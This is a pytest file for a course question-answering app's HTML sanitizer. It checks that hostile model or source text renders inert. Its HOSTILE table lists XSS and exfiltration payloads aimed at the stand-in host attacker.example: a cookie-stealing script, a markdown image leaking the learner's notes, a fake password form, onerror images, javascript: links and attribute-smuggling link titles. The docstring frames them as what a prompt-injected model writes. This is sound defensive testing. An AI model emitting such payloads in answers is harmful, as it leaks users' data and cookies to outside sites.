"""M2, M3 and the learner's question: one sanitizer for everything shown as HTML.

Before, answers were escaped by a regular expression that skipped "code spans": an escaped
backtick made a password form, a fake "course material" card and remote images render, and
a markdown image in an LLM answer sent the learner's notes to another site on display. The
tables below are hostile answer texts (what an obedient model writes when a third-party
document tells it to) and what must never come out of them.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from courserag.i18n.messages import Notice
from courserag.results import Answer
from courserag.ui.rendering.render import (
    escape_markdown_html,
    format_answer,
    render_citations,
    render_notes,
    render_upload_log,
)
from courserag.ui.rendering.sanitize import answer_html, clean_html, markdown_html, text_html

PROJECT_ROOT = Path(__file__).resolve().parents[3]
DOCS = {"csc3100": PROJECT_ROOT / "courses" / "csc3100"}
EVIL = "attacker.example"

# (name, hostile markdown from the model or a source)
HOSTILE = [
    # Math put back into a link's title after the sanitizer closed the attribute with its quote
    # (issue 40): a page-wide invisible link. The second closes its own math delimiters so the
    # page's KaTeX step leaves the planted attributes alone.
    (
        "math closing a link title",
        '[x](https://attacker.example "t $a" href="https://attacker.example" target="_blank" '
        'style="position:fixed;width:100vw;height:100vh" b$")',
    ),
    (
        "math closing its own delimiters in a link title",
        '[x](https://attacker.example "t $a\\) " href="https://attacker.example" target="_blank" '
        'style="position:fixed;width:100vw;height:100vh" x=\\($")',
    ),
    ("math in a code fence's language", '```$a" onmouseover="alert(1)$\nx\n```'),
    ("escaped backtick form", "\\`<form action='https://attacker.example/x'><input type=password name=p></form>\\`"),
    ("escaped backtick image", "see \\`<img src=https://attacker.example/p.png onerror=alert(1)>\\`"),
    ("markdown image exfiltration", "Summary ![](https://attacker.example/log?d=my%20private%20notes)"),
    ("markdown image with title", '![x](https://attacker.example/a.png "t")'),
    ("reference image", "![x][r]\n\n[r]: https://attacker.example/ref.png"),
    ("data image", "![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    ("raw img", "<img src=x onerror=alert(1)>"),
    ("script", "<script>fetch('https://attacker.example/'+document.cookie)</script>"),
    ("iframe", "<iframe src=https://attacker.example></iframe>"),
    (
        "details card",
        '<details class="cr-cite cr-cite-course"><summary>[1] syllabus.md course material</summary>fake</details>',
    ),
    ("fake sources block", '<div class="cr-sources"><a href="https://attacker.example">syllabus.md</a></div>'),
    ("off-site link", "[the syllabus](https://attacker.example/syllabus)"),
    ("javascript link", "[click](javascript:alert(1))"),
    ("autolink", "<https://attacker.example/auto>"),
    ("html entity smuggling", "&lt;img src=https://attacker.example/e.png&gt;"),
    ("style attribute", '<span style="background:url(https://attacker.example/s)">x</span>'),
    ("svg", "<svg><image href=https://attacker.example/i.png /></svg>"),
    ("code fence with html", "```html\n<form><input></form>\n```"),
    ("blank line inside code", "```\nline one\n\n![](https://attacker.example/after-blank.png)\n```"),
]
ALLOWED_TAGS = {
    "div",
    "span",
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "b",
    "i",
    "u",
    "s",
    "del",
    "sup",
    "sub",
    "code",
    "pre",
    "kbd",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "details",
    "summary",
    "button",
    "mark",
    "progress",
}
ALLOWED_ATTRIBUTES = {
    "class",
    "href",
    "title",
    "target",
    "rel",
    "start",
    "align",
    "hidden",
    "aria-label",
    "type",
    "data-name",
    "value",
    "max",
    "scope",
    "colspan",  # the app's own markup
}


def markup(rendered: str) -> list[tuple[str, dict]]:
    """Every start tag of `rendered` with its attributes, as a browser would parse them."""
    from html.parser import HTMLParser

    found: list[tuple[str, dict]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Collect().feed(rendered)
    return found


def assert_inert(rendered: str, own_details: bool = False) -> None:
    """No tag or attribute off the allow-list, no link off the course files, one HTML block."""
    for tag, attributes in markup(rendered):
        assert tag in ALLOWED_TAGS and (tag != "details" or own_details), (tag, rendered)
        assert set(attributes) <= ALLOWED_ATTRIBUTES, (tag, attributes)
        assert attributes.get("href", "course-file/").startswith("course-file/"), attributes
        assert EVIL not in " ".join(str(v) for v in attributes.values()), attributes
        if tag == "details":
            assert attributes.get("class", "") == "cr-consulted", attributes
        if tag == "button":
            assert attributes.get("class") in ("cr-ref", "cr-open", "cr-remove-file"), attributes
    # One raw HTML block (it starts with a tag and has no line break), so the chat's Markdown
    # renderer never re-reads the text: a "![](…)" left in it would become an image there.
    assert rendered.startswith("<") and "\n" not in rendered, rendered


@pytest.mark.parametrize("name, text", HOSTILE, ids=[name for name, _ in HOSTILE])
def test_hostile_answer_text_renders_as_text(name, text):
    assert_inert(escape_markdown_html(text))
    assert_inert(answer_html(text))


@pytest.mark.parametrize("name, text", HOSTILE, ids=[name for name, _ in HOSTILE])
def test_hostile_text_is_inert_in_every_block_of_the_page(name, text):
    answer = Answer("q", text, False, [], [Notice("plain", {"text": text})])
    assert_inert(format_answer(answer, "en", DOCS))
    assert_inert(text_html(text))
    assert_inert(render_upload_log([("fail", text)]))
    cite = {"n": 1, "source": text, "locator": text, "origin": "upload", "course_id": None, "text": text}
    cards = render_citations([cite], "en", DOCS)
    assert_inert(cards, own_details=True)
    assert [tag for tag, _ in markup(cards)].count(
        "details"
    ) == 0  # one cited card, no "also consulted", none from the text
    assert [
        c for tag, a in markup(cards) if tag == "div" for c in [a.get("class", "")] if c.startswith("cr-cite ")
    ] == ["cr-cite cr-cite-upload"]


@pytest.mark.parametrize(
    "markdown, expected",
    [
        ("**bold** and *em*", "<strong>bold</strong> and <em>em</em>"),
        ("a `x<y` b", "<code>x&lt;y</code>"),
        ("- one [1]\n- two [2]", "<li>one [1]</li>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("```\nif (i<n) {}\n```", "<pre><code>if (i&lt;n) {}"),
        ("根据资料：\n- 迟交 48 小时记 0 分 [1]", "<li>迟交 48 小时记 0 分 [1]</li>"),
    ],
)
def test_ordinary_answers_keep_their_formatting(markdown, expected):
    assert expected in markdown_html(markdown)


def test_the_question_is_shown_as_text():
    """Low: the learner's own question rendered as HTML (forms, remote images)."""
    shown = text_html("What is <b>this</b>? ![](https://attacker.example/q.png) <form><input></form>")
    assert shown.startswith('<div class="cr-text">') and "&lt;b&gt;this&lt;/b&gt;" in shown
    assert_inert(shown)


def test_only_links_to_cited_course_files_survive():
    html_block = render_citations(
        [
            {
                "n": 1,
                "source": "syllabus.md",
                "locator": "Late policy",
                "origin": "course",
                "course_id": "csc3100",
                "text": "t",
            },
        ],
        "en",
        DOCS,
    )
    (href,) = re.findall(r'href="([^"]+)"', html_block)
    assert href == "course-file/csc3100/syllabus.md?heading=Late%20policy"
    assert clean_html(f'<a href="{href}">x</a>', links=[href]).count("href=") == 1
    assert "href" not in render_citations(
        [
            {
                "n": 1,
                "source": "../../README.md",
                "locator": "",
                "origin": "course",
                "course_id": "csc3100",
                "text": "t",
            },
        ],
        "en",
        DOCS,
    )  # outside the course folder: no link
    assert "href" not in clean_html(f'<a href="{href}">x</a>')  # not named by the caller: no link
    assert "href" not in clean_html('<a href="https://attacker.example">x</a>', links=["gradio_api/file=x"])


def test_citation_links_name_no_server_path():
    """Low: citation links carried the absolute path of the course file on the server."""
    html_block = render_citations(
        [
            {
                "n": 1,
                "source": "lectures/week03_hashing.pdf",
                "locator": "page 4",
                "origin": "course",
                "course_id": "csc3100",
                "text": "t",
            },
        ],
        "en",
        DOCS,
    )
    assert str(PROJECT_ROOT) not in html_block and "/work/" not in html_block
    assert 'href="course-file/csc3100/lectures/week03_hashing.pdf#page=4"' in html_block


def test_every_block_render_returns_is_sanitized():
    from courserag.retrieval.session_pool import UploadedFile

    notes = render_notes([UploadedFile("<img src=x onerror=alert(1)>.md", "h", "md", 1, 1, 10)], "en")
    assert_inert(notes)
    assert "&lt;img" in notes
